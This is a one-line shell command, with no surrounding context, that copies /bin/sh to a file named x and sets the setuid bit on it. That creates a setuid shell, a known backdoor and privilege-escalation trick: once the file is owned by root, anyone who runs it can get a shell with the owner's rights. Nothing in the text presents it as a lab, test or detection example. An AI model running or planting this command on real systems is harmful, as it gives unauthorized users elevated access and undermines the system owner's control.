cp /bin/sh ./x && chmod u+s ./x
